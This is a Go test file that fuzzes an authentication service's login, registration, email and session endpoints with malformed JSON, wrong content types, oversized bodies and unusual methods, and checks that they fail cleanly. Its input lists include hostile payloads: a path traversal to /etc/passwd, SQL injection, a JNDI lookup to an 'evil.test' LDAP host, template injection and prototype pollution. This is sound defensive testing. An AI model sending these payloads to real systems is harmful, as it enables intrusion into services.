package attacks

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// endpoints take JSON.
var endpoints = []string{
	"/doorward/users", "/doorward/user", "/doorward/passcode/login/initialize", "/doorward/passcode/login/finalize", "/doorward/emails",
	"/doorward/emails/00000000-0000-4000-8000-000000000000/set_primary", "/doorward/sessions/validate",
	loginInitialize, loginFinalize, registrationInitialize, registrationFinalize,
}

// nonsense is what no endpoint can make anything of.
var nonsense = []string{
	"null", "[]", `""`, "0", "true", "{", "}", "{]", `{"a"`, `{"a":}`, `{"a":1,}`, `{a:1}`, "{'a':1}", `{"a":1}{"a":1}`, `{"a":1} x`, "\xff\xfe{}", "\xef\xbb\xbf{}",
	"{\"a\":\"\xff\"", `{"a":"\ud800`, "\x00", "<xml/>", "email=a", strings.Repeat("[", 60<<10), strings.Repeat(`{"a":`, 10<<10), `{"a":1e999999}x`,
}

// wrong are objects with fields of the wrong types, or of unlikely content.
var wrong = []string{
	`{"email":0}`, `{"email":{}}`, `{"email":["a@example.test"]}`, `{"email":null,"user_id":null,"id":null,"code":null,"address":null,"session_token":null}`,
	`{"email":"","user_id":"","email_id":"","id":"","code":"","address":"","session_token":""}`, `{"id":0,"code":0}`, `{"id":[],"code":{}}`, `{"id":"x","code":123456}`,
	`{"id":"\u0000","code":"\u0000","email":"\u0000","user_id":"\u0000","address":"\u0000","session_token":"\u0000"}`,
	`{"id":"../../etc/passwd","code":"';--","email":"' OR 1=1 --@example.test","user_id":"${jndi:ldap://evil.test}","session_token":"{{7*7}}"}`,
	`{"user_id":"00000000-0000-0000-0000-000000000000","email_id":"ffffffff-ffff-4fff-bfff-ffffffffffff","id":"ffffffff-ffff-4fff-bfff-ffffffffffff","code":"000000"}`,
	`{"id":"AAAA","rawId":"AAAA","type":"public-key","response":{}}`, `{"id":"AAAA","rawId":"AAAA","type":"public-key","response":null}`, `{"id":"AAAA","rawId":"AAAA","type":"public-key","response":[]}`,
	`{"id":"AAAA","rawId":"AAAA","type":"public-key","response":{"clientDataJSON":"e30","authenticatorData":"","signature":"","attestationObject":""}}`,
	`{"id":"AAAA","rawId":"AAAA","type":"public-key","response":{"clientDataJSON":"bnVsbA","authenticatorData":"AAAA","signature":"AAAA","userHandle":"AAAA","attestationObject":"oA"}}`,
	`{"id":"AAAA","rawId":"AAAA","type":"public-key","response":{"clientDataJSON":"W10","authenticatorData":"` + strings.Repeat("_", 400) + `","signature":"AAAA","attestationObject":"` + strings.Repeat("m", 4000) + `"}}`,
	`{"id":"AAAA","rawId":"AAAA","type":"public-key","response":{"clientDataJSON":"e30","attestationObject":"o2NmbXRkbm9uZWdhdHRTdG10oGhhdXRoRGF0YVv_________w"}}`,
	`{"id":"\n","rawId":"\n","type":"public-key","response":{"clientDataJSON":"\n","authenticatorData":"\n","signature":"\n","attestationObject":"\n"}}`,
	`{"options":{"authenticatorSelection":[]}}`, `{"user":{"id":{}}}`, `{"user_id":"AAAA","options":{"attestation":"` + strings.Repeat("x", 20<<10) + `"}}`,
	`{"__proto__":{"admin":true},"constructor":{"prototype":{}}}`, `{"email":"a@example.test","email":{}}`, `{"` + strings.Repeat("k", 50<<10) + `":1}`, `{"email":"` + strings.Repeat("a", 50<<10) + `@example.test"}`,
}

// A client sends every endpoint what it does not expect, to make it fall over.
// POST /doorward/... with nonsense for a body.
func TestT153EndpointsGetNonsense(t *testing.T) {
	s := Begin(t)
	alice := s.SignedIn("alice")
	const asJSON = "application/json"
	for _, target := range endpoints {
		s.Elsewhere() // a budget for each
		send := func(body, contentType string) string {
			return s.Request(A, "POST", target, alice.Bearer, "Content-Type: "+contentType, fmt.Sprintf("Content-Length: %d", len(body)), "Connection: keep-alive") + body
		}
		var requests []string
		for _, body := range nonsense {
			requests = append(requests, send(body, asJSON))
		}
		for _, contentType := range []string{
			"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "", "application/json, text/plain", "/", ";", "application/jsonp",
			"text/json", "application/json;charset", "\"application/json\"",
		} {
			requests = append(requests, send(`{"email":"nobody@example.test"}`, contentType))
		}
		for i, a := range s.inBatches(requests) {
			switch a.Status {
			case http.StatusBadRequest, http.StatusUnsupportedMediaType, http.StatusNotFound: // no lookups here
			default:
				t.Errorf("%s, request %d: %q: %v, want 400 or 415", target, i, requests[i][:min(400, len(requests[i]))], a)
			}
		}
		requests = nil
		for _, body := range wrong {
			requests = append(requests, send(body, asJSON))
		}
		for i, a := range s.inBatches(requests) {
			if a.Status >= 500 || a.Status == 0 || a.Cookie("__Host-doorward") != "" {
				t.Errorf("%s, %.300q: %v", target, wrong[i], a)
			}
		}
		large := s.Post(A, target, strings.Repeat(" ", 65<<10)+"{}", alice.Bearer, "Content-Type: application/json")
		if large.Status != http.StatusRequestEntityTooLarge && large.Status != http.StatusNotFound {
			t.Errorf("%s, 65 KiB: %v, want 413", target, large)
		}
		for _, method := range []string{"GET", "PUT", "TRACE", "PATCH"} {
			if a := s.Send(A, s.Request(A, method, target, alice.Bearer)); a.Status >= 500 {
				t.Errorf("%s %s: %v", method, target, a)
			}
		}
	}
	s.Quiet()
	if a := s.Get(A, "/", alice.Bearer); a.Status != http.StatusOK {
		t.Errorf("alice, after all that: %v", a)
	}
	if got := s.One().Values("Remote-User"); len(got) != 1 || got[0] != alice.Address {
		t.Errorf("the app was told %q", got)
	}
}

// inBatches sends requests on few connections, and returns an answer for each.
func (s *Scene) inBatches(requests []string) []Answer {
	s.T.Helper()
	var answers []Answer
	for len(answers) < len(requests) {
		got := s.Stream(A, strings.Join(requests[len(answers):], "")+s.Request(A, "GET", "/doorward/health/alive"))
		if len(got) == 0 {
			s.T.Fatalf("no answer to %.200q", requests[len(answers)])
		}
		answers = append(answers, got[:min(len(got), len(requests)-len(answers))]...)
	}
	return answers
}
